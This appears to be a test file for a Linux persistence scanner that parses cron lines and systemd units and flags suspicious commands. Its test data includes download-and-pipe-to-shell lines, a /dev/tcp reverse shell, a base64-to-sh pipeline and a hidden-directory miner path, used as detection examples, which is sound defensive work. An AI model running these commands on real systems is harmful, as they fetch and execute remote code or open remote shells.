import { describe, expect, it } from 'vitest';
import { parseCronLine } from '../../src/persistence/cron';
import { c2Match, C2_RE, describeSchedule, hiddenDir, judgeCommand, judgeSchedule } from '../../src/persistence/judge';
import { analyseCommand } from '../../src/persistence/shell';
import { execCommand, parseUnit } from '../../src/persistence/systemd';
import { RULES } from '../../src/persistence/rules';
import { reasonFor } from '../../src/persistence/fsread';

const judged = (cmd: string, home = '/home/u') => judgeCommand(cmd, { cwd: home, home }).findings.map((f) => f.id).sort();

describe('parseCronLine', () => {
  it('user and system formats, specials, variables and comments', () => {
    expect(parseCronLine('*/5 * * * * cd /x && ./y', false)).toEqual({ kind: 'entry', schedule: '*/5 * * * *', user: null, command: 'cd /x && ./y' });
    expect(parseCronLine('0 1 * * Sun root /usr/sbin/raid-check', true)).toEqual({ kind: 'entry', schedule: '0 1 * * Sun', user: 'root', command: '/usr/sbin/raid-check' });
    expect(parseCronLine('@reboot   /home/u/run', false)).toMatchObject({ kind: 'entry', schedule: '@reboot', command: '/home/u/run' });
    expect(parseCronLine('MAILTO=""', false)).toEqual({ kind: 'skip' });
    expect(parseCronLine('SHELL = /bin/sh', true)).toEqual({ kind: 'skip' });
    expect(parseCronLine('   # comment', false)).toEqual({ kind: 'skip' });
    expect(parseCronLine('', false)).toEqual({ kind: 'skip' });
    expect(parseCronLine('REDIS0009\u00fa\tredis-ver', false).kind).toBe('junk');
    expect(parseCronLine('hello world this is not cron', false).kind).toBe('junk');
    expect(parseCronLine('60x * * * * /bin/true', false).kind).toBe('junk');
    expect(parseCronLine('0 1 * * * /bin/true', true)).toMatchObject({ kind: 'junk' });          // system line without user
    expect(parseCronLine('0 1 * * * root /bin/true\r', true)).toMatchObject({ kind: 'entry', command: '/bin/true' });
  });
});

describe('judgeCommand', () => {
  it('catalogue examples', () => {
    expect(judged('wget -q -O - http://195.3.146.118/spr.sh | sh > /dev/null 2>&1')).toEqual(['C2', 'C3', 'C7']);
    expect(judged('/tmp/.X25-unix/.rsync/c/aptitude>/dev/null 2>&1')).toEqual(['C1', 'C7', 'C8']);
    expect(judged('curl http://198.51.100.7/x.sh | bash')).toEqual(['C2', 'C3']);
    expect(judged('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')).toEqual(['C2']);
    expect(judged('echo ZWNobyBoaQ== | base64 --decode | sh')).toContain('C4');
  });

  it('C2 is found as the catalogue\'s pattern finds it, in one pass over a line of any length', () => {
    const lines = [
      'wget -q -O - http://195.3.146.118/spr.sh | sh > /dev/null 2>&1', 'curl -fsSL http://x/y|sudo bash', 'a; curl x | python3 -',
      'curl x > f; cat f | sh', 'curl x || sh', 'wget x | tee f', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'echo | sh',
      'FETCH http://x | KSH', 'curl a | perl; wget b | ruby',
    ];
    for (const l of lines) expect(c2Match(l)?.[0] ?? null, l).toBe(C2_RE.exec(l)?.[0] ?? null);
    // a user's start-up file with 80,000 downloader names and no pipe: the pattern alone took 24 s on it
    expect(c2Match('curl '.repeat(80_000))).toBeNull();
    expect(judged('curl '.repeat(80_000) + '| sh')).toContain('C2');
  });

  it('leaves ordinary jobs alone', () => {
    expect(judged('/usr/bin/php /var/www/nextcloud/cron.php')).toEqual([]);
    expect(judged('"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null', '/root')).toEqual([]);
    expect(judged('/usr/bin/find /tmp -mtime +7 -delete >/dev/null 2>&1')).toEqual([]);
    expect(judged('cd /srv/app && ./manage.py clearsessions')).toEqual([]);
    expect(judged('sync')).toEqual([]);                             // bare system name resolved through PATH
    expect(judged('/usr/sbin/sshd -t')).toEqual([]);
    expect(judged('curl -fsS https://hc-ping.com/abc >/dev/null 2>&1')).toEqual([]);   // output discarded alone is normal
  });

  it('references: paths, cd targets and program names', () => {
    expect(judgeCommand('', { cwd: null, home: null }).references).toEqual([]);
    expect(judgeCommand('./run', { cwd: null, home: null }).references).toEqual(['run']);   // relative, nowhere to resolve
    expect(judgeCommand('cd ~/.x && nohup ./miner -c cfg.json &', { cwd: '/home/u', home: '/home/u' }).references)
      .toEqual(expect.arrayContaining(['/home/u/.x', '/home/u/.x/miner', 'miner']));
  });

  it('hidden directories: the last component only counts for directories; tool dirs are not hidden', () => {
    expect(hiddenDir('/home/u/.x/sshd', false)).toBe('/home/u/.x');
    expect(hiddenDir('/home/u/.bash_aliases', false)).toBe(null);
    expect(hiddenDir('/home/u/.x', true)).toBe('/home/u/.x');
    expect(hiddenDir('/home/u/.local/bin/tool', false)).toBe(null);
    expect(hiddenDir('/home/u/.local/share/.k/tool', false)).toBe('/home/u/.local/share/.k');
  });

  it('schedules', () => {
    expect(judgeSchedule('* * * * *', new Set()).map((f) => f.id)).toEqual(['C6']);
    expect(judgeSchedule('*/10 * * * *', new Set()).map((f) => f.id)).toEqual(['C6']);
    expect(judgeSchedule('*/15 * * * *', new Set())).toEqual([]);
    expect(judgeSchedule('@reboot', new Set()).map((f) => f.weight)).toEqual([3]);
    expect(judgeSchedule('@reboot', new Set(['C1'])).map((f) => f.weight)).toEqual([6]);
    expect(describeSchedule('*/5 * * * *')).toBe('every 5 minutes');
    expect(describeSchedule('* * * * *')).toBe('every minute');
    expect(describeSchedule('30 3 * * *')).toBe('every day at 03:30');
    expect(describeSchedule('@reboot')).toBe('at every boot');
  });
});

describe('shell lexer', () => {
  it('redirections in every spelling', () => {
    expect(analyseCommand('x >/dev/null 2>&1').discardsOutput).toBe(true);
    expect(analyseCommand('x &>/dev/null').discardsOutput).toBe(true);
    expect(analyseCommand('x 2>/dev/null 1>/dev/null').discardsOutput).toBe(true);
    expect(analyseCommand('x 2>&1 >/dev/null').discardsOutput).toBe(false);       // stderr went to the old stdout
    expect(analyseCommand('x >/dev/null').discardsOutput).toBe(false);
    expect(analyseCommand('/a/b>/dev/null 2>&1').programs).toEqual(['/a/b']);
  });

  it('never throws on unbalanced quotes or junk', () => {
    for (const s of ['"unterminated', "it's", '$(', '`', '\\', '((((', '>', '2>&', '\u0000\u001b[2J', 'a'.repeat(100000)]) {
      expect(() => judgeCommand(s, { cwd: null, home: null })).not.toThrow();
    }
  });
});

describe('units, rules, paths', () => {
  it('parses units with continuations and strips Exec prefixes', () => {
    const d = parseUnit('[Service]\nExecStart=-/usr/bin/a \\\n  --flag\n# c\nUser=bob\n');
    expect(d.map((x) => [x.key, x.value, x.line])).toEqual([['ExecStart', '-/usr/bin/a  --flag', 2], ['User', 'bob', 5]]);
    expect(execCommand('-@/usr/bin/a arg')).toBe('/usr/bin/a arg');
  });

  it('every rule has an id equal to its key, a title, a weight that can flag something and ATT&CK ids', () => {
    for (const [k, v] of Object.entries(RULES)) {
      expect(v.id).toBe(k);
      expect(v.title.length).toBeGreaterThan(5);
      // Only P8 (an SSH key that can log in) is informational; a rule of weight 0 could never flag anything.
      if (k === 'P8') expect(v.weight).toBe(0);
      else expect(v.weight, k).toBeGreaterThan(0);
      expect(v.weight, k).toBeLessThanOrEqual(10);
      for (const t of v.attack) expect(t, k).toMatch(/^T\d{4}(\.\d{3})?$/);
    }
  });

  it('reasons in plain words', () => {
    expect(reasonFor({ code: 'EACCES' })).toBe('needs root (permission denied)');
    expect(reasonFor({ code: 'EIO' })).toBe('cannot read (EIO)');
  });
});
